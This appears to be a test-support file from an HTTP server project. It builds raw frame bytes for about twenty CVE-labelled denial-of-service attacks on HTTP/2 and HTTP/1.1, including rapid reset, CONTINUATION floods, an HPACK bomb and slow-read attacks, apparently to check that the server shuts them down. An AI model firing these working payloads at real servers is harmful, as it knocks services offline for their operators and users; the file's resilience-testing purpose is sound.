/** Attacks by name, most of them on HTTP/2. Each defines the bytes of one connection; attacker.ts sends them as fast as it can. */
import {
  CANCEL,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  FRAME_HEADER,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  MAX_WINDOW,
  PING,
  PRIORITY,
  PRIORITY_UPDATE,
  RST_STREAM,
  SETTINGS,
  WINDOW_UPDATE,
  writeFrameHeader,
} from "../../src/http/h2/frames.ts";
import { uint32 } from "../helpers/h2-client.ts";

export interface Attack {
  readonly name: string;
  /** Where the attack was published. */
  readonly cve: string;
  /** What the attacker does, and what it costs an unprepared server. */
  readonly summary: string;
  /** Concurrent connections; default: 1. */
  readonly connections?: number;
  /** The attack uses HTTP/1.1. */
  readonly http1?: true;
  /** Sent once; in HTTP/2 after SETTINGS. */
  readonly opening?: Buffer;
  /** Sent repeatedly, with `n` counting from 0. Absent: the attacker only waits. */
  readonly round?: (n: number) => Buffer;
  /** The attacker never reads. */
  readonly deaf?: true;
  /** The error code of the GOAWAY that ends the connection; "" = it is served like any other. */
  readonly ends: string;
}

/** One frame. */
export function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const bytes = Buffer.alloc(FRAME_HEADER + payload.length);
  writeFrameHeader(bytes, 0, payload.length, type, flags, id);
  payload.copy(bytes, FRAME_HEADER);
  return bytes;
}

/** A field without indexing and without Huffman; name and value shorter than 127. */
function field(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
}

/** `:method`, `:scheme: http`, `:path`, `:authority: a.example`. */
function head(method: "GET" | "POST", path: string): Buffer {
  const fields = [field(":path", path), field(":authority", "a.example")];
  return Buffer.concat([Buffer.of(method === "GET" ? 0x82 : 0x83, 0x86), ...fields]);
}

const GET = head("GET", "/");
const POST = head("POST", "/");
const LARGE = head("GET", "/large");
const WHOLE = END_HEADERS | END_STREAM;

/** The n-th stream of a client. */
const stream = (n: number) => 2 * n + 1;

/** Invalid frames, each of which makes a server reset a stream that it is still working on. */
const PROVOCATIONS: readonly ((id: number) => Buffer)[] = [
  (id) => frame(WINDOW_UPDATE, 0, id, uint32(0)),
  (id) => frame(WINDOW_UPDATE, 0, id, uint32(MAX_WINDOW)),
  (id) => frame(PRIORITY, 0, id, Buffer.concat([uint32(id), Buffer.of(0)])),
  (id) => frame(PRIORITY, 0, id, uint32(0)),
];

/** An entry that fills the dynamic table, and a head that refers to it as often as a frame has room. */
const BOMB = Buffer.concat([GET, Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
const BOMBS = Buffer.concat([GET, Buffer.alloc(12_000, 0xbe)]);

/** A hundred requests for a large response, with all windows open. */
const UNREAD = Buffer.concat([
  frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(MAX_WINDOW)])),
  frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)),
  ...Array.from({ length: 100 }, (_, n) => frame(HEADERS, WHOLE, stream(n), LARGE)),
]);

export const ATTACKS: readonly Attack[] = [
  {
    name: "rapid-reset",
    cve: "CVE-2023-44487",
    summary: "requests cancelled at once, so that they do not count as concurrent",
    round: (n) =>
      Buffer.concat([frame(HEADERS, WHOLE, stream(n), GET), frame(RST_STREAM, 0, stream(n), uint32(CANCEL))]),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "made-you-reset",
    cve: "CVE-2025-8671",
    summary: "requests that the server is made to reset, so that they do not count as concurrent",
    round: (n) => {
      const provoke = PROVOCATIONS[n % PROVOCATIONS.length] ?? (() => Buffer.alloc(0));
      return Buffer.concat([frame(HEADERS, WHOLE, stream(n), GET), provoke(stream(n))]);
    },
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "malformed-requests",
    cve: "CVE-2019-9514",
    summary: "malformed requests, each of which must be reset",
    round: (n) => frame(HEADERS, WHOLE, stream(n), Buffer.concat([GET, field("X-Upper", "case")])),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "empty-names",
    cve: "CVE-2019-9516",
    summary: "fields without name and value, which cost memory and no bytes",
    round: (n) => frame(HEADERS, WHOLE, stream(n), Buffer.concat([GET, Buffer.alloc(3 * 1000)])),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "wrong-length",
    cve: "CVE-2025-8671",
    summary: "bodies longer than announced, so that each request is reset after it has reached its backend",
    round: (n) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS, stream(n), Buffer.concat([POST, field("content-length", "1")])),
        frame(DATA, END_STREAM, stream(n), Buffer.alloc(2)),
      ]),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "continuation-flood",
    cve: "CVE-2024-27316",
    summary: "a field block that never ends and is buffered meanwhile",
    opening: frame(HEADERS, END_STREAM, 1, GET),
    round: (n) => frame(CONTINUATION, 0, 1, field("x-fill", String(n))),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "empty-continuations",
    cve: "CVE-2024-27316",
    summary: "the same with empty frames, which no size limit catches",
    opening: frame(HEADERS, END_STREAM, 1, GET),
    round: () => frame(CONTINUATION, 0, 1),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "settings-flood",
    cve: "CVE-2019-9515",
    summary: "SETTINGS, each of which must be acknowledged",
    round: () => frame(SETTINGS, 0, 0),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "ping-flood",
    cve: "CVE-2019-9512",
    summary: "PINGs, each of which must be answered",
    round: () => frame(PING, 0, 0, Buffer.alloc(8)),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "empty-frames",
    cve: "CVE-2019-9518",
    summary: "empty DATA, which windows do not limit",
    opening: frame(HEADERS, END_HEADERS, 1, POST),
    round: () => frame(DATA, 0, 1),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "unknown-frames",
    cve: "CVE-2019-9518",
    summary: "frames of an unknown type, which must be skipped",
    round: () => frame(0xbe, 0, 0, Buffer.alloc(4)),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "priority-flood",
    cve: "CVE-2019-9513",
    summary: "PRIORITY, which rearranges the stream tree of servers that have one",
    round: (n) => frame(PRIORITY, 0, stream(n % 1000), Buffer.concat([uint32(stream(1000)), Buffer.of(n & 0xff)])),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "priority-update-flood",
    cve: "CVE-2019-9513",
    summary: "the same with PRIORITY_UPDATE of RFC 9218",
    round: (n) => frame(PRIORITY_UPDATE, 0, 0, Buffer.concat([uint32(stream(n % 1000)), Buffer.from(`u=${n % 8}`)])),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "window-update-flood",
    cve: "CVE-2019-9511",
    summary: "WINDOW_UPDATE byte by byte, for windows that nothing uses",
    round: () => frame(WINDOW_UPDATE, 0, 0, uint32(1)),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "zero-credit",
    cve: "RFC 9113 6.9",
    summary: "WINDOW_UPDATE of 0 for the connection",
    opening: frame(WINDOW_UPDATE, 0, 0, uint32(0)),
    ends: "PROTOCOL_ERROR",
  },
  {
    name: "hpack-bomb",
    cve: "CVE-2016-6581",
    summary: "heads of 12 KB that expand to 48 MB through references to one large entry",
    // Window for the responses.
    opening: Buffer.concat([frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)), frame(HEADERS, WHOLE, 1, BOMB)]),
    round: (n) => frame(HEADERS, WHOLE, stream(n + 1), BOMBS),
    ends: "",
  },
  {
    name: "data-dribble",
    cve: "CVE-2019-9511",
    summary: "a large response that must be sent in frames of one byte",
    opening: Buffer.concat([
      frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(0)])),
      frame(HEADERS, WHOLE, 1, LARGE),
    ]),
    round: () => frame(WINDOW_UPDATE, 0, 1, uint32(1)),
    ends: "ENHANCE_YOUR_CALM",
  },
  {
    name: "slow-read",
    cve: "CVE-2019-9517",
    summary: "a hundred large responses with all windows open, of which nothing is read",
    opening: UNREAD,
    deaf: true,
    ends: "",
  },
  {
    name: "slow-readers",
    cve: "CVE-2019-9517",
    summary: "the same on many connections: thousands of large responses of which nothing is read",
    connections: 20,
    opening: UNREAD,
    deaf: true,
    ends: "",
  },
  {
    name: "slow-readers-http1",
    cve: "CWE-400",
    summary: "large HTTP/1.1 responses, one per connection, of which nothing is read",
    connections: 200,
    http1: true,
    opening: Buffer.from("GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n"),
    deaf: true,
    ends: "",
  },
];
